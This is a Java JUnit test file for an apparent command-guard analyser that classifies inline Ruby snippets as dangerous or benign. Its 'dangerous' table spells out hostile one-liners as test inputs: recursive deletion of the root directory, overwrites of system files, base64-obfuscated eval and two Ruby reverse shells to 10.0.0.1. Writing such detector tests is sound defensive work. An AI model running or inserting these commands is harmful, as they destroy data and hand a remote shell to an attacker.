package dev.cmdguard.unwrap.inline;

import static dev.cmdguard.unwrap.inline.Rows.row;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class RubyInlineTest {

  static Stream<Arguments> dangerous() {
    return Stream.of(
        row("FileUtils.rm_rf(\"/\")", "delete-r:/"),
        row("system(\"rm\", \"-rf\", \"/\")", "argv:[rm, -rf, /]"),
        row("system(\"rm -rf /\")", "shell:rm -rf /"),
        row("`rm -rf /`", "shell:rm -rf /"),
        row("%x(rm -rf /)", "shell:rm -rf /"),
        row("exec \"rm -rf /\"", "shell:rm -rf /"),
        row("spawn({\"A\" => \"1\"}, \"make\", \"install\")", "argv:[make, install]"),
        row("IO.popen(\"id\").read", "shell:id"),
        row("IO.popen([\"ls\", \"-l\"]).read", "argv:[ls, -l]"),
        row("require 'open3'; Open3.capture2(\"rm -rf /tmp/x\")", "shell:rm -rf /tmp/x"),
        row("open(\"|rm -rf /\")", "shell:rm -rf /"),
        row("File.delete(\"/etc/passwd\")", "delete:/etc/passwd"),
        row("require 'fileutils'; FileUtils.rm_rf Dir.home", "delete-r:~"),
        row("FileUtils.rm_r([\"/a\", \"/b\"])", "delete-r:/a", "delete-r:/b"),
        row("Pathname.new(\"/etc\").rmtree", "delete-r:/etc"),
        row("Dir.rmdir(\"/srv/x\")", "delete:/srv/x"),
        row("File.write(\"/etc/hosts\", \"x\")", "write:/etc/hosts"),
        row("File.open(\"/etc/cron.d/x\", \"w\") { |f| f.puts \"x\" }", "write:/etc/cron.d/x"),
        row("d = \"/tmp/x\"; system(\"rm -rf #{d}\")", "shell:rm -rf /tmp/x"),
        row("system(\"rm -rf #{ENV['HOME']}\")", "shell:rm -rf ~"),
        row("system(\"rm -rf #{ARGV[0]}\")", "shell~:rm -rf ${ARGV}"),
        row("eval(\"system('id')\")", "eval:eval", "shell:id"),
        row(
            "require 'base64'; eval(Base64.decode64(\"c3lzdGVtKCdpZCcp\"))",
            "eval:eval",
            "shell:id"),
        row("eval(\"c3lzdGVtKCdpZCcp\".unpack1(\"m\"))", "eval:eval", "shell:id"),
        row("FileUtils.remove_dir(\"/x\", true)", "delete-r:/x"),
        row("cmd = %w(rm -rf /); system(*cmd)", "argv:[rm, -rf, /]"),
        row("a = ['rm', '-rf']; a << '/'; system(*a)", "argv:[rm, -rf, /]"),
        row("d = '/x'; dirs.each { |d| FileUtils.rm_rf(d) }", "delete-r~:${d}"),
        row("eval(ARGV[0])", "eval~:eval", "opaque"),
        row("Kernel.send(:system, \"id\")", "shell:id"),
        row("method(:system).call(\"id\")", "shell:id"),
        row("send(name, \"id\")", "opaque"),
        row("system([114, 109].pack('C*') + ' -rf /')", "shell:rm -rf /"),
        row(
            "f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
            "net:TCPSocket.open",
            "shell~:/bin/sh -i <&${f} >&${f} 2>&${f}",
            "revshell:TCPSocket.open"),
        row(
            "require 'socket';s=TCPSocket.new('10.0.0.1',4242);"
                + "spawn('/bin/sh',[:in,:out,:err]=>s)",
            "net:TCPSocket.new",
            "shell:/bin/sh",
            "revshell:TCPSocket.new"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        row("puts 1"),
        row("puts ARGF.read.upcase"),
        row("puts [1,2,3].map { |x| x * 2 }.sum"),
        row("require 'json'; puts JSON.pretty_generate({a: 1})"),
        row("STDIN.each_line { |l| puts l.split(/\\s+/)[1] }"),
        row("puts \"x\" if $stdin.read =~ /foo/"),
        row("puts 'system(\"rm -rf /\")'"),
        row("puts \"#{1 + 2} items\""),
        row("puts %w(system exec).join(',')"),
        row("# system('rm -rf /')\nputs 1"),
        row("=begin\nsystem('rm -rf /')\n=end\nputs 2"),
        row("puts RUBY_VERSION"),
        row("puts File.read('Gemfile')"),
        row("puts Dir.glob('*.rb')"),
        row("puts File.exist?('/tmp')"),
        row("require 'yaml'; puts YAML.load_file('config.yml').inspect"),
        row("puts ENV['PATH']"),
        row("x = 10 % 3; puts x"),
        row("puts :symbol.to_s"),
        row("h = {shell: true, recursive: true}; puts h"),
        row("puts [3, 1, 2].sort.reverse.inspect"),
        row("puts Time.now.iso8601"),
        row("puts 'a/b/c'.split('/').last"),
        row("def f(x) = x * 2\nputs f(2)"),
        row("puts gets.chomp.reverse"),
        row("printf(\"%05d\\n\", 42)"),
        row("puts File.basename(Dir.pwd)"),
        row("$stdout.sync = true; puts 1"),
        row("puts 'x'.freeze.frozen?"),
        row("require 'digest'; puts Digest::SHA256.hexdigest('x')"),
        row("p Dir.home"),
        row("a = [1]; a << 2; p a"),
        row("puts ENV.fetch('HOME')"),
        row("require 'set'; s = Set.new([1, 2]); puts s.include?(1)"),
        row("puts (1..10).select(&:even?).inspect"),
        row("puts 'exec'.length"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"dangerous", "benign"})
  void analyses(String code, List<String> expected) {
    Rows.check(Language.RUBY, code, expected);
  }

  @Test
  void tableHasAsManyBenignRowsAsDangerous() {
    Rows.assertBalanced(Stream.concat(dangerous(), benign()));
  }
}
